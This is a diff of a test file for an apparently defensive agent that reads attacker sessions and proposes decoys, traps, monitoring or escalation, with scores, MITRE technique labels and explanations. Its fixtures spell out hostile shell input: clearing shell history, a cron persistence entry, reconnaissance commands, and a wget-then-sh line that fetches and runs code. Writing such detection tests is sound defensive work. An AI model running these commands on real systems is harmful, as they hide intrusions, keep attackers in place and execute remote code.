@@ -34,6 +34,11 @@ describe('the agent', () => {
       ['launch_decoy for escalation-pattern'],
     ],
     [
+      'launches a decoy when much together is dangerous and nothing alone says what to do',
+      { login: true, commands: ['unset HISTFILE', 'echo "* * * * * /tmp/.x" | crontab -', 'uname -a; ps aux; id'] },
+      ['launch_decoy for sustained-threat'],
+    ],
+    [
       'inserts a trap where code is fetched and run',
       { login: true, commands: ['wget http://192.0.2.9/x; sh x'] },
       ['insert_trap for code-execution'],
@@ -79,7 +84,71 @@ describe('the agent', () => {
           autoAction: false,
           text: 'Proposed: automatic action is off (confidence 0.70 is at or above the threshold 0.7).',
         },
-        agentVersion: '2026.1',
+        agentVersion: '2026.2',
+      },
+    ]);
+  });
+
+  it('explains in numbers why it keeps a dangerous session busy', () => {
+    const facts = factsAfter(mapper, {
+      login: true,
+      commands: ['unset HISTFILE', 'echo "* * * * * /tmp/.x" | crontab -'],
+    });
+    const score = facts.score.toFixed(2);
+    expect(agent.decide(facts, closed)).toEqual([
+      {
+        decisionId: '78303273-c289-883c-bc81-5a11cee28bc7',
+        kind: 'launch_decoy',
+        trigger: 'sustained-threat',
+        state: 'proposed',
+        confidence: facts.score,
+        score: facts.score,
+        level: 4,
+        stage: 'installation',
+        reasons: [
+          `The score is ${score}, from 0.6 to 0.9, and no single pattern explains it; level 4, stage installation.`,
+          'The session reached the stage installation.',
+          'persistence: T1053.003 Scheduled Task/Job: Cron.',
+          'A login was accepted.',
+        ].map((text) => ({ trigger: 'sustained-threat', text })),
+        evidence: ['login', 'command 1', 'command 0', 'opened'].map(testId),
+        alternatives: [
+          { kind: 'monitor', text: `The score of ${score} is not below 0.6.` },
+          { kind: 'escalate', text: `The score of ${score} is not above 0.9.` },
+        ],
+        counterfactual:
+          'A score below 0.6, or any more specific trigger, would have launched no decoy for the score alone.',
+        policy: {
+          threshold: 0.7,
+          autoAction: false,
+          text: `Proposed: automatic action is off (confidence ${score} is at or above the threshold 0.7).`,
+        },
+        agentVersion: '2026.2',
+      },
+    ]);
+  });
+
+  it('keeps a session busy for its score only while nothing more specific was decided', () => {
+    const facts = factsAfter(mapper, { login: true });
+    const decidedAt = (score: number, ...decided: typeof facts.decided) =>
+      agent.decide({ ...facts, score, decided }, closed).map(({ trigger }) => trigger);
+    const watched = { trigger: 'low-score', kind: 'monitor' } as const;
+    expect(decidedAt(0.59)).toEqual(['low-score']);
+    expect(decidedAt(0.6)).toEqual(['sustained-threat']);
+    expect(decidedAt(0.6, watched)).toEqual(['sustained-threat']);
+    expect(decidedAt(0.9, watched)).toEqual(['sustained-threat']);
+    expect(decidedAt(0.91, watched)).toEqual(['critical-score']);
+    expect(decidedAt(0.7, watched, { trigger: 'credential-attack', kind: 'rotate_key' })).toEqual([]);
+    expect(decidedAt(0.7, { trigger: 'sustained-threat', kind: 'launch_decoy' })).toEqual([]);
+  });
+
+  it('asks nobody for permission to watch', () => {
+    const watching = createAgent({ threshold: 1, autoAction: false }).decide(factsAfter(mapper, {}), closed);
+    expect(watching.map(({ kind, state, policy }) => ({ kind, state, policy }))).toEqual([
+      {
+        kind: 'monitor',
+        state: 'authorised',
+        policy: { threshold: 1, autoAction: false, text: 'Authorised: watching needs no permission.' },
       },
     ]);
   });
